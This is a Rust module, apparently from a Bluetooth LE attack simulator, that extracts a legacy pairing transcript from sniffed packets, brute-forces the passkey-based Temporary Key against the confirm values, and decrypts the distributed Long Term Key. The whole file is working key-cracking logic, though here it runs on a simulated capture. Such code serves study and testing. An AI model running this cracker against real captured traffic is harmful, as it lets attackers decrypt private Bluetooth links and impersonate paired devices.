//! Offline TK recovery from a sniffed legacy pairing.

use crate::crypto::{decrypt_pdu, Key128};
use crate::protocol::connection::Direction;
use crate::protocol::control::ControlPdu;
use crate::protocol::pairing::{confirm_value, session_key, short_term_key, ConfirmRole, PASSKEY_SPACE};
use crate::protocol::pdu::{header, ConnectRequest, LinkLayerPdu, PduType};
use crate::protocol::profile::PairingMethod;
use crate::protocol::smp::SmpPdu;

use crate::world::World;

use super::sniff::connections_to;
use super::{AttackError, AttackKind, AttackOutcome, Fact};

/// Everything of one pairing an eavesdropper can read off the air.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PairingTranscript {
    /// Method from the pairing response; absent when the response was missed.
    pub method: Option<PairingMethod>,
    pub mconfirm: Option<[u8; 16]>,
    pub sconfirm: Option<[u8; 16]>,
    pub mrand: Option<[u8; 16]>,
    pub srand: Option<[u8; 16]>,
    pub skd_central: Option<[u8; 8]>,
    pub skd_peripheral: Option<[u8; 8]>,
    /// First encrypted SMP body the peripheral sent after START_ENC, with its
    /// capture index: the key distribution.
    pub key_distribution: Option<(usize, Vec<u8>)>,
    /// Capture indices of the pairing PDUs used.
    pub indices: Vec<usize>,
}

impl PairingTranscript {
    /// Reads the first pairing exchange out of `entries` (capture index, PDU).
    /// Confirms and randoms are attributed by order: the central sends first.
    pub fn extract<'a>(entries: impl IntoIterator<Item = (usize, &'a LinkLayerPdu)>) -> Self {
        let mut t = PairingTranscript::default();
        let mut central: Option<[u8; 6]> = None;
        let mut encrypting = false;
        for (index, pdu) in entries {
            if pdu.pdu_type == PduType::ConnectReq {
                if let Some(req) = ConnectRequest::decode(&pdu.payload) {
                    central.get_or_insert(req.initiator);
                }
                continue;
            }
            match pdu.header() {
                Some(header::SMP) if !encrypting => {
                    let Ok(smp) = SmpPdu::decode(pdu.body()) else { continue };
                    let used = match smp {
                        SmpPdu::PairingRequest(_) => {
                            central.get_or_insert(pdu.meta.sender);
                            true
                        }
                        SmpPdu::PairingResponse(f) if t.method.is_none() => {
                            t.method = Some(f.method);
                            true
                        }
                        SmpPdu::PairingConfirm(c) if t.mconfirm.is_none() => t.mconfirm.replace(c).is_none(),
                        SmpPdu::PairingConfirm(c) if t.sconfirm.is_none() => t.sconfirm.replace(c).is_none(),
                        SmpPdu::PairingRandom(r) if t.mrand.is_none() => t.mrand.replace(r).is_none(),
                        SmpPdu::PairingRandom(r) if t.srand.is_none() => t.srand.replace(r).is_none(),
                        _ => false,
                    };
                    if used {
                        t.indices.push(index);
                    }
                }
                Some(header::SMP) => {
                    let from_peripheral = central.is_some_and(|c| c != pdu.meta.sender);
                    if from_peripheral && t.key_distribution.is_none() {
                        t.key_distribution = Some((index, pdu.body().to_vec()));
                        t.indices.push(index);
                    }
                }
                Some(header::CONTROL) => match ControlPdu::decode(pdu.body()) {
                    Ok(ControlPdu::EncReq { skd }) if t.skd_central.is_none() && t.srand.is_some() => {
                        t.skd_central = Some(skd);
                        t.indices.push(index);
                    }
                    Ok(ControlPdu::EncRsp { skd }) if t.skd_peripheral.is_none() && t.skd_central.is_some() => {
                        t.skd_peripheral = Some(skd);
                        t.indices.push(index);
                    }
                    Ok(ControlPdu::StartEnc) if t.skd_peripheral.is_some() && t.key_distribution.is_none() => {
                        encrypting = true;
                        t.indices.push(index);
                    }
                    Ok(ControlPdu::PauseEnc) => encrypting = false,
                    _ => {}
                },
                _ => {}
            }
        }
        t
    }

    /// `(mconfirm, sconfirm, mrand, srand)`.
    fn confirm_material(&self) -> Option<[[u8; 16]; 4]> {
        Some([self.mconfirm?, self.sconfirm?, self.mrand?, self.srand?])
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CrackResult {
    pub tk: u128,
    /// PRF evaluations spent, including the final cross-check.
    pub evaluations: u64,
}

/// Searches the TK space the method admits: Just Works `{0}`, Passkey
/// `0..10^6`. Methods without a guessable TK get the same `10^6` budget
/// and come back [`AttackError::NotCrackable`].
pub fn crack_tk(capture: &[LinkLayerPdu]) -> Result<CrackResult, AttackError> {
    crack_tk_with_budget(&PairingTranscript::extract(capture.iter().enumerate()), PASSKEY_SPACE)
}

/// A candidate is accepted only if it reproduces both confirm values, so a
/// returned TK never mismatches the capture.
pub fn crack_tk_with_budget(transcript: &PairingTranscript, budget: u128) -> Result<CrackResult, AttackError> {
    let [mconfirm, sconfirm, mrand, srand] = transcript.confirm_material().ok_or(AttackError::NoPairingCaptured)?;
    let candidates = match transcript.method {
        Some(PairingMethod::JustWorks) => 0..1,
        _ => 0..budget.min(PASSKEY_SPACE),
    };
    let mut evaluations = 0;
    for tk in candidates {
        evaluations += 1;
        if confirm_value(tk, ConfirmRole::Initiator, &mrand) != mconfirm {
            continue;
        }
        evaluations += 1;
        if confirm_value(tk, ConfirmRole::Responder, &srand) == sconfirm {
            return Ok(CrackResult { tk, evaluations });
        }
    }
    Err(AttackError::NotCrackable)
}

/// The distributed LTK, decrypted with a session key rebuilt from a cracked TK.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KeyRecovery {
    pub stk: Key128,
    pub ltk: Key128,
    /// Capture index of the decrypted key distribution PDU.
    pub capture_index: usize,
}

/// STK from the TK and both randoms, session key from the STK and both
/// diversifiers, then the key distribution PDU must verify and decode.
pub fn recover_ltk(transcript: &PairingTranscript, tk: u128) -> Option<KeyRecovery> {
    let stk = short_term_key(tk, transcript.mrand.as_ref()?, transcript.srand.as_ref()?);
    let key = session_key(&stk, transcript.skd_central.as_ref()?, transcript.skd_peripheral.as_ref()?);
    let (capture_index, body) = transcript.key_distribution.as_ref()?;
    let plain = decrypt_pdu(&key, Direction::PeripheralToCentral.nonce(0), body).ok()?;
    match SmpPdu::decode(&plain) {
        Ok(SmpPdu::EncryptionInformation(ltk)) => Some(KeyRecovery { stk, ltk, capture_index: *capture_index }),
        _ => None,
    }
}

/// Cracks the first pairing heard on any of the target's connections and
/// decrypts the distributed LTK with it. Success is a recovered key.
pub fn crack_pairing(world: &World, advertiser: [u8; 6], heard: &[usize]) -> Result<AttackOutcome, AttackError> {
    let mut outcome = AttackOutcome::new(AttackKind::CrackTk);
    for (connect, access_address) in connections_to(world, heard, advertiser) {
        let on_link = heard.iter().copied().filter(|&i| {
            let pdu = &world.capture[i].pdu;
            i == connect || (i > connect && !pdu.pdu_type.is_advertising() && pdu.access_address == access_address)
        });
        let transcript = PairingTranscript::extract(on_link.map(|i| (i, &world.capture[i].pdu)));
        if transcript.confirm_material().is_none() {
            continue;
        }
        outcome.note(transcript.indices.iter().copied());
        let cracked = crack_tk_with_budget(&transcript, PASSKEY_SPACE)?;
        let recovered = recover_ltk(&transcript, cracked.tk).ok_or(AttackError::NoPairingCaptured)?;
        outcome.establish(Fact::KeyRecovered, transcript.indices.iter().copied().chain([recovered.capture_index]));
        return Ok(outcome);
    }
    Err(AttackError::NoPairingCaptured)
}
